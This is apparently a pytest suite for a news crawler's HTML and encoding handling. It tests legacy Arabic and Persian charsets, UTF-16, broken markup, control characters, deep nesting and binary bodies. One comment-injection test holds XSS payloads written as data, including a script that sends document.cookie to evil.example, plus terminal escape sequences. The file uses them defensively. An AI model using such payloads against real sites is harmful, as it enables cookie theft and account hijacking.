"""Hostile pages read in-process: lying or missing charsets, windows-1256 and UTF-16, mixed
encodings, Persian and Arabic digits, broken and cut markup, control characters, injected script,
nesting deeper than parsers go, JSON-LD nested past the decoder.  Each is read whole and right, or
refused with a reason, and nothing raises anything else."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from crawler.pipelines.cleaning import clean_fields
from crawler.spiders.article_items import article_item
from crawler.understand.article_page import ArticlePage, understand_article
from crawler.understand.comments.merging import assemble_thread
from crawler.understand.encoding import decode_html, guess_legacy_encoding, not_text
from crawler.understand.html import UnreadablePage, clean_text, parse_page
from tests.hostile import corpus
from tests.hostile.corpus import ARABIC_PARAGRAPHS, ARABIC_TITLE, ENGLISH_PARAGRAPHS, PERSIAN_PARAGRAPHS, PERSIAN_TITLE

FETCHED = datetime(2024, 5, 8, 6, 0, tzinfo=UTC)
URL = f"{corpus.ORIGIN}/2024/05/idlib-market/"


def read(body: bytes | str, content_type: str | None = None) -> ArticlePage:
    return understand_article(parse_page(body, URL, content_type), FETCHED)


# ---------------------------------------------------------------------------- encodings
PERSIAN = corpus.article_page(title=PERSIAN_TITLE, paragraphs=PERSIAN_PARAGRAPHS, lang="fa", thread=[], charset=None)
ARABIC = corpus.article_page(title=ARABIC_TITLE, paragraphs=ARABIC_PARAGRAPHS, lang="ar", thread=[], charset=None)


@pytest.mark.parametrize(
    ("page", "title", "header", "meta"),
    [
        pytest.param(PERSIAN, PERSIAN_TITLE, None, None, id="persian-undeclared"),
        pytest.param(PERSIAN, PERSIAN_TITLE, "text/html; charset=utf-8", None, id="persian-header-says-utf8"),
        pytest.param(PERSIAN, PERSIAN_TITLE, "text/html; charset=utf-8", "windows-1256", id="persian-header-lies-meta-right"),
        pytest.param(ARABIC, ARABIC_TITLE, "text/html; charset=ISO-8859-1", None, id="arabic-header-says-latin1"),
        pytest.param(ARABIC, ARABIC_TITLE, None, "windows-1256", id="arabic-meta-only"),
    ],
)
def test_a_windows_1256_page_is_read_whatever_its_declarations_say(page: str, title: str, header: str | None, meta: str | None) -> None:
    if meta:
        page = page.replace("<head>", f'<head><meta http-equiv="Content-Type" content="text/html; charset={meta}">')
    read_page = read(page.encode("cp1256"), header)
    assert title in (read_page.meta.title or "")
    assert all(paragraph in read_page.body.text for paragraph in (PERSIAN_PARAGRAPHS if title == PERSIAN_TITLE else ARABIC_PARAGRAPHS))


def test_a_utf8_page_is_read_as_utf8_though_the_server_says_latin1() -> None:
    page = corpus.article_page(title=ARABIC_TITLE, paragraphs=ARABIC_PARAGRAPHS, lang="ar")
    assert read(page.encode("utf-8"), "text/html; charset=iso-8859-1").meta.title == ARABIC_TITLE


@pytest.mark.parametrize(
    ("encoding", "header"),
    [("utf-16", None), ("utf-16-le", "text/html; charset=utf-16le"), ("utf-16-be", "text/html; charset=UTF-16"), ("utf-16-le", None)],
    ids=["bom", "le-declared", "be-declared-without-order", "le-undeclared"],
)
def test_utf16_pages_are_read_with_or_without_a_byte_order_mark(encoding: str, header: str | None) -> None:
    page = corpus.article_page(title=PERSIAN_TITLE, paragraphs=PERSIAN_PARAGRAPHS, lang="fa", charset=None)
    read_page = read(page.encode(encoding), header)
    assert read_page.meta.title == PERSIAN_TITLE
    assert PERSIAN_PARAGRAPHS[0] in read_page.body.text
    assert not_text(page.encode(encoding)) is None  # half NUL bytes, but text


@pytest.mark.parametrize(
    ("stray", "legacy"),
    [("Le marché était plein, c'est affreux. Où sont les secours ?", "cp1252"), (PERSIAN_PARAGRAPHS[1], "cp1256")],
    ids=["western-comment", "persian-comment"],
)
def test_a_utf8_page_with_a_comment_in_a_legacy_encoding_keeps_both_readable(stray: str, legacy: str) -> None:
    """A migrated site: UTF-8 template, an old comment still in the database's old encoding."""
    marker = "<p>STRAY</p>"
    thread = [corpus.Remark(401, None, "Claire", "placeholder", raw_html=marker)]
    page = corpus.article_page(title=ARABIC_TITLE, paragraphs=ARABIC_PARAGRAPHS, thread=thread).encode("utf-8")
    page = page.replace(b"STRAY", stray.encode(legacy))
    read_page = read(page, "text/html; charset=UTF-8")
    assert read_page.meta.title == ARABIC_TITLE
    assert ARABIC_PARAGRAPHS[0] in read_page.body.text
    assert [c.text for c in read_page.comments.comments] == [stray]


@pytest.mark.parametrize(
    ("text", "encoding"),
    [(" ".join(ENGLISH_PARAGRAPHS) + " Café, déjà vu, élève.", "cp1252"), (" ".join(PERSIAN_PARAGRAPHS), "cp1256"),
     ("По меньшей мере четырнадцать мирных жителей погибли во вторник при обстреле рынка.", "cp1251")],
    ids=["western", "persian", "cyrillic"],
)
def test_an_undeclared_legacy_page_is_read_in_the_encoding_whose_words_are_words(text: str, encoding: str) -> None:
    assert guess_legacy_encoding(text.encode(encoding)) == encoding
    assert decode_html(f"<p>{text}</p>".encode(encoding))[1] == f"<p>{text}</p>"


# ---------------------------------------------------------------------------- digits and dates
@pytest.mark.parametrize(
    ("byline", "lang"),
    [("تاریخ انتشار: ۱۴۰۳/۰۲/۱۸ - ۰۹:۳۰", "fa"), ("۷ مه ۲۰۲۴", "fa"), ("نشر في ٧ مايو ٢٠٢٤", "ar")],
    ids=["persian-digits-solar-hijri", "persian-digits", "arabic-indic-digits"],
)
def test_dates_written_in_persian_or_arabic_digits_are_read(byline: str, lang: str) -> None:
    page = corpus.article_page(title=PERSIAN_TITLE, paragraphs=PERSIAN_PARAGRAPHS, lang=lang, published=None)
    page = page.replace('<span class="byline">', f'<span class="posted-on">{byline}</span> <span class="byline">')
    published = read(page).meta.published
    assert published is not None and published.day.isoformat() == "2024-05-07"


def test_a_page_without_any_date_is_read_with_no_date() -> None:
    read_page = read(corpus.article_page(published=None))
    assert read_page.meta.published is None
    assert read_page.body.text.startswith(ENGLISH_PARAGRAPHS[0])


def test_a_page_dated_in_the_future_is_still_read_whole() -> None:
    read_page = read(corpus.article_page(published="2031-01-01T09:00:00+03:00"))
    assert read_page.meta.title and read_page.body.text.startswith(ENGLISH_PARAGRAPHS[0])
    assert len(read_page.comments.comments) == 3


def test_a_publication_date_after_the_fetch_is_not_taken_as_the_date() -> None:
    published = read(corpus.article_page(published="2031-01-01T09:00:00+03:00")).meta.published
    assert published is None or published.utc <= FETCHED


# ---------------------------------------------------------------------------- broken markup
@pytest.mark.parametrize("cut", [0.35, 0.6, 0.9], ids=["in-the-body", "in-the-comments", "near-the-end"])
def test_a_page_cut_short_is_read_as_far_as_it_goes(cut: float) -> None:
    page = corpus.article_page().encode()
    read_page = read(page[: int(len(page) * cut)])
    assert read_page.meta.title == corpus.ENGLISH_TITLE


def test_malformed_markup_is_read_as_a_browser_reads_it() -> None:
    page = corpus.article_page().replace("</p>", "</span></b>", 1).replace('<p>', '<p class="x" "broken=attr <i>', 1)
    page = page.replace("</article>", "</div></div></div>").replace("<li ", "<li <li ", 1) + "</html></html><p>after the end"
    read_page = read(page)
    assert ENGLISH_PARAGRAPHS[1] in read_page.body.text
    assert read_page.meta.title == corpus.ENGLISH_TITLE


@pytest.mark.parametrize("body", [b"", b"   \n", b"<!-- nothing -->", b"<", b"\x00\x00"], ids=["empty", "blank", "comment", "lone-bracket", "nuls"])
def test_a_page_with_nothing_in_it_reads_as_an_empty_page(body: bytes) -> None:
    read_page = read(body)
    assert read_page.body.text == "" and read_page.comments.comments == []


def test_nul_bytes_and_control_characters_are_dropped_from_what_is_read() -> None:
    page = corpus.article_page(thread=[corpus.Remark(501, None, "Ra\x07mi", "Sad\x00 news\x1b[31m from the market\x0b.")])
    page = page.replace("At least 14", "At\x00 least\x01 14").replace("<title>", "<title>\x1b]0;owned\x07")
    read_page = read(page.encode("utf-8"))
    for text in (read_page.meta.title or "", read_page.body.text, *(c.text for c in read_page.comments.comments)):
        assert clean_text(text) == text
    assert read_page.body.text.startswith("At least 14 civilians")
    assert read_page.comments.comments[0].text == "Sad news[31m from the market."


def test_control_characters_from_json_ld_never_reach_a_stored_item() -> None:
    data = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": "Market\u0000 shelled\u001b[2J",
            "author": {"@type": "Person", "name": "Staff\u0007"}, "datePublished": "2024-05-07T09:30:00+03:00"}
    page = corpus.article_page(head_extra=f'<script type="application/ld+json">{json.dumps(data)}</script>')
    item = article_item(read(page), [], fetched_url=URL, fetched_at=FETCHED, comment_pages=[])
    clean_fields(item)
    assert "\x00" not in (item.title or "") and "\x1b" not in (item.title or "")
    assert all(clean_text(a) == a for a in item.authors)


def test_c1_controls_mean_what_windows_1252_means_by_them() -> None:
    assert clean_text("war\x96time \x93quoted\x94") == "war–time “quoted”"


# ---------------------------------------------------------------------------- injected markup
def test_script_and_markup_in_a_comment_are_stored_as_the_text_the_reader_typed() -> None:
    typed = "Nice try <script>document.location='https://evil.example/?c='+document.cookie</script> <img src=x onerror=alert(1)>"
    unescaped = '<p>Got through: <script>fetch("/wp-admin/?steal=1")</script><style>body{display:none}</style><b onmouseover="alert(3)">bold</b> words.</p>'
    thread = [corpus.Remark(601, None, "Mallory", typed), corpus.Remark(602, None, "Trudy", "", raw_html=unescaped)]
    comments = read(corpus.article_page(thread=thread)).comments.comments
    assert [c.text for c in comments] == [typed, "Got through: bold words."]


# ---------------------------------------------------------------------------- depth and size
def test_a_reply_chain_a_thousand_levels_deep_is_read_with_every_parent() -> None:
    chain = corpus.reply_chain(1000)
    comments = assemble_thread([read(corpus.article_page(thread=chain)).comments.comments])
    assert len(comments) == 1000
    assert {(c.id, c.parent_id) for c in comments} == {(str(r.id), str(r.parent) if r.parent else None) for r in chain}
    assert max(c.depth for c in comments) == 999


def test_markup_nested_deeper_than_the_parser_reads_is_refused_not_read_in_part() -> None:
    page = corpus.article_page().replace("<p>At least", "<div>" * 3000 + "deep" + "</div>" * 3000 + "<p>At least")
    with pytest.raises(UnreadablePage, match="Excessive depth"):
        parse_page(page.encode(), URL)


def test_a_text_node_over_ten_megabytes_is_read_whole() -> None:
    page = corpus.article_page().replace("At least 14", "x" * (11 * 1024 * 1024) + " At least 14")
    read_page = parse_page(page.encode(), URL)
    assert read_page.tree.xpath("//h1/text()") == [corpus.ENGLISH_TITLE]


@pytest.mark.parametrize(
    "block",
    ["[" * 100_000 + "]" * 100_000, '{"@type": "NewsArticle", "x": ' + '{"a": ' * 3000 + "1" + "}" * 3000 + "}"],
    ids=["arrays", "objects"],
)
def test_json_ld_nested_past_the_decoder_is_ignored_and_the_page_read(block: str) -> None:
    page = corpus.article_page(head_extra=f'<script type="application/ld+json">{block}</script>')
    read_page = read(page)
    assert read_page.meta.title == corpus.ENGLISH_TITLE
    assert len(read_page.comments.comments) == 3


# ---------------------------------------------------------------------------- not pages
@pytest.mark.parametrize(
    ("body", "what"),
    [(corpus.png(), "a PNG image"), (corpus.pdf(), "a PDF document"), (corpus.noise(), "binary data"),
     (corpus.gzipped(b"<html></html>"), "gzip-compressed data"), (b"\x7fELF\x02\x01\x01" + bytes(200), "an executable")],
    ids=["png", "pdf", "noise", "gzip", "elf"],
)
def test_binary_bodies_are_named_for_what_they_are(body: bytes, what: str) -> None:
    assert not_text(body) == what


def test_a_page_with_a_few_nul_bytes_is_still_text() -> None:
    assert not_text(corpus.article_page().replace("At least", "At\x00 least\x01\x02").encode()) is None
